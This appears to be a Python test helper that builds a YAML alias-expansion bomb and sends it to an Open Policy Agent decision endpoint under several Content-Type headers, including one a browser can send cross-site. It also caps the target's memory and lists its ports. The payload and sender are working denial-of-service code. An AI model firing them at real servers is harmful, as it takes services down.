"""Fifteen kilobytes of YAML that fill any memory of an OPA which reads them, and how to send them.

OPA takes a body for YAML whose `Content-Type` has those four letters anywhere, before it asks its
rules who sends it.
"""

from __future__ import annotations

import contextlib
import http.client
import os
import re
import resource
from collections.abc import Callable, Iterable
from pathlib import Path

from servers import connection

Connect = Callable[[], http.client.HTTPConnection]


def _bomb() -> bytes:
    """173,600 times the same 6,000 letters, as long as they are aliases of one.

    The library refuses what is nearly nothing but aliases: hence the many numbers.
    """
    lines = [
        f"a: &a {'x' * 6000}",
        f"n: [{','.join('1' * 4100)}]",
        *(
            f"{name}: &{name} [{','.join([f'*{of}'] * times)}]"
            for name, of, times in (("b", "a", 100), ("c", "b", 62), ("d", "c", 28))
        ),
    ]
    return "\n".join(lines).encode()


BOMB = _bomb()

TYPES = (
    "application/yaml",
    "application/x-yaml",
    "text/yaml; charset=utf-8",
    "application/json; yaml",
    # A web page may send this from any browser, to any address, without asking first.
    "text/plain; charset=yaml",
)

ROOM = 1 << 30


def bounded(pid: int) -> None:
    """Limit this process's memory to little more than it has.

    A bomb that it does read then ends it, and not this machine.
    """
    status = Path(f"/proc/{pid}/status").read_text()
    found = re.search(r"^VmSize:\s+(\d+) kB$", status, re.MULTILINE)
    assert found
    most = int(found[1]) * 1024 + ROOM
    resource.prlimit(pid, resource.RLIMIT_AS, (most, most))


def thrown(
    connect: Connect,
    path: str = "/v1/data/priorauth/decision",
    types: Iterable[str] = TYPES,
) -> dict[str, int | None]:
    """The status that each way to send the bomb is answered with, None for no answer."""
    return {kind: _status(connect, path, kind) for kind in types}


def _status(connect: Connect, path: str, kind: str) -> int | None:
    with contextlib.closing(connect()) as opened, contextlib.suppress(OSError):
        opened.request("POST", path, BOMB, {"Content-Type": kind})
        return opened.getresponse().status
    return None


def to(url: str) -> Connect:
    """Connections to `http://host:port` or `unix:///path`."""
    return lambda: connection(url)


def ports(pid: int) -> set[int]:
    """The TCP ports on which this process listens."""
    inodes = set()
    for each in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            inodes.add(os.readlink(each).removeprefix("socket:[").removesuffix("]"))
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            _, local, _, state, *_, inode = line.split()[:10]
            if state == "0A" and inode in inodes:
                found.add(int(local.rpartition(":")[2], 16))
    return found
